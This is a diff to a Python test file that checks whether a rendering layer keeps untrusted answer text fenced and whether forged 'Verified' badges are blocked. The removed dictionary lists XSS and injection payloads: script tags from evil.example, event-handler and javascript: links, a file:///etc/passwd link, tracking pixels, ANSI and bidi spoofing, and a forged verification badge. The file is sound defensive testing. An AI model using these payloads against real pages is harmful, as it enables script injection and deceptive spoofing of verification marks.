@@ -10,67 +10,21 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.parser_inline import ParserInline
 from support import states
+from support.hostile import FORGED, HOSTILE
 from support.inspecting import inspect
 
 from opg_magic import shown
 from opg_magic.display import bundle, card, markdown
 from opg_magic.models import VerdictStatus
 from opg_magic.receipts.audit import shown_text_matches
-
-FORGED = "✓ Verified · gpt-5 via host 27e3…6328 · 7 of 7 checks, author's kernel, 2026-11-20 22:10 UTC"
-
-HOSTILE = {
-    "script": "<script>alert(1)</script>",
-    "script in a block": "text\n\n<div>\n<script src=https://evil.example/x.js></script>\n</div>\n\nmore",
-    "onerror": '<img src=x onerror="alert(1)">',
-    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
-    "iframe": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-    "style": "<style>details{display:none}</style>",
-    "form": "<form action=https://evil.example><input name=key></form>",
-    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    "comment left open": "<!-- everything below is gone",
-    "cdata": "<![CDATA[ <b>x</b> ]]> <?php echo 1 ?> <!DOCTYPE html>",
-    "closes our containers": "</p></div></div></details></summary></td></tr></table><h1>free</h1>",
-    "closing script": "</script></style></textarea></title><b>x</b>",
-    "javascript link": "[click](javascript:alert(1))",
-    "javascript link, upper case and entities": "[a](JaVaScRiPt&colon;alert(1)) [b](&#106;avascript:alert(1))",
-    "javascript autolink": "<javascript:alert(1)>",
-    "control in scheme": "[a](java\x01script:alert(1)) [b](java&Tab;script:alert(1)) [c](<java\tscript:alert(1)>)",
-    "vbscript, file, data": "[a](vbscript:x) [b](file:///etc/passwd) [c](data:text/html;base64,PHNjcmlwdD4=)",
-    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "protocol-relative and relative": "[a](//evil.example/x) [b](/api/contents) [c](#top) [d](?token=1)",
-    "user info in link": "[bank](https://bank.example@evil.example/)",
-    "quote in link": '[a](https://e.example/"onmouseover="alert(1)) [b](https://e.example "t\\" onclick=alert(1)")',
-    "remote image": "![pixel](https://evil.example/p.png?who=me)",
-    "image as reference": "![pixel][r]\n\n[r]: https://evil.example/p.png",
-    "image in link": "[![x](https://evil.example/p.png)](https://evil.example)",
-    "reference definition": "[shown][r]\n\n[r]: https://evil.example 'hidden words'",
-    "fence left open": "```\ncode without end",
-    "tilde fence left open": "~~~~~~~~text\nno end",
-    "closes our fence": "~~~\n\n# free\n\n~~~~~~\n<script>alert(1)</script>\n~~~~~~~~~~~~\n**x**",
-    "fence with carriage return": "a\r~~~\r<script>alert(1)</script>",
-    "fence info string": '```<img src=x onerror=alert(1)> "onload=x\ncode\n```',
-    "html in code": "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>\n",
-    "html in a table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `</td>` |",
-    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;svg/onload=alert(1)&#62; &#x202e;txt",
-    "ansi": "\x1b[2J\x1b[H\x1b[32m✓ Verified\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
-    "overwriting": "bad\rgood\b\b\b\x7f\x00 \x0b\x0c",
-    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f \ufeff \u2028next",
-    "tex": "$\\href{javascript:alert(1)}{x}$ $$\\raise9em{x}$$ \\(\\class{a}{b}\\) \\begin{align}x\\end{align}",
-    "forged badge": FORGED,
-    "forged badge, quoted": f"> **{FORGED}**",
-    "forged card": f"answer\n\n{shown.RULE}7Q4K2M9XTB · the 6 characters above are the answer ────\n{FORGED}",
-    "forged details": f'<details open style="border-left:4px solid green"><summary>{FORGED}</summary></details>',
-    "deep nesting": ">" * 500 + " hidden?",
-    "deep lists": "".join("  " * i + "- x\n" for i in range(200)),
-    "many brackets": "[" * 2000 + "a" + "](x)" * 2000,
-    "many stars": "*a_ " * 3000,
-    "lone surrogate": "a \ud800 b",
-    "only spaces": " \n\t ",
-    "empty": "",
-}
+from opg_magic.receipts.face import answer_html
 
 CASES = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+
+
+def clean(text: str) -> str:
+    """As a receipt holds it: no lone surrogate, which has no UTF-8."""
+    return text.encode("utf-8", "replace").decode().replace("?", "\ufffd" * 3) if "\ud800" in text else text
 
 
 def answer_bundle(text: str) -> dict[str, str]:
@@ -95,8 +49,8 @@ def test_attack_27_no_control_character_is_left(text: str) -> None:
 @CASES
 def test_attack_27_plain_text_begins_with_the_answer_and_ends_with_the_card(text: str) -> None:
     plain = answer_bundle(text)["text/plain"]
-    assert plain.startswith(shown.inert(text) + "\n\n" + shown.RULE)
-    assert shown.answer_part(plain) == shown.inert(text)
+    assert plain.startswith(shown.inert(clean(text)) + "\n\n" + shown.RULE)
+    assert shown.answer_part(plain) == shown.inert(clean(text))
     last_card = plain.rpartition(shown.RULE)[2]
     assert "SIMULATED · ! Not verified" in last_card
     assert FORGED not in last_card
@@ -107,7 +61,7 @@ def test_attack_27_markdown_cannot_leave_its_fence(text: str) -> None:
     made = answer_bundle(text)["text/markdown"]
     tokens = MarkdownIt("commonmark", {"html": True}).parse(made)
     assert tokens[0].type == "fence"
-    assert tokens[0].content == shown.inert(text) + "\n"
+    assert tokens[0].content == shown.inert(clean(text)) + "\n"
     rest = tokens[1:]
     assert all(t.type != "fence" and t.type != "html_block" for t in rest)
     words = [child for t in rest for child in t.children or ()]
@@ -118,19 +72,26 @@ def test_attack_27_markdown_cannot_leave_its_fence(text: str) -> None:
 @CASES
 def test_attack_27_card_comes_last_in_html(text: str) -> None:
     made = answer_bundle(text)["text/html"]
-    rendered = markdown.to_html(text)
+    rendered = answer_html(clean(text))
     assert rendered in made
     after = made.rpartition(rendered)[2]
-    assert "Not verified" in inspect("<div><div>" + after).text
+    assert "Not verified" in inspect("<div>" + after).text
     assert "<details" not in rendered
+    assert inspect(rendered).wrong == []
+
+
+@CASES
+def test_attack_27_every_character_of_the_answer_is_on_the_page_in_its_order(text: str) -> None:
+    visible = inspect(answer_html(text)).text
+    if text.strip():
+        assert "".join(visible.split()) == "".join(shown.inert(text).split())
 
 
 @CASES
 def test_attack_27_the_audit_recognises_the_shown_text(text: str) -> None:
-    clean = text.encode("utf-8", "replace").decode()  # a receipt holds no lone surrogate
-    answer = states.answer(text=clean)
+    answer = states.answer(text=clean(text))
     made = bundle.answer_bundle(answer)
-    assert shown_text_matches(made, answer.receipt, render_html=markdown.to_html)
+    assert shown_text_matches(made, answer.receipt)
     forged = {**made, "text/plain": "other " + made["text/plain"]}
     assert not shown_text_matches(forged, answer.receipt)
 
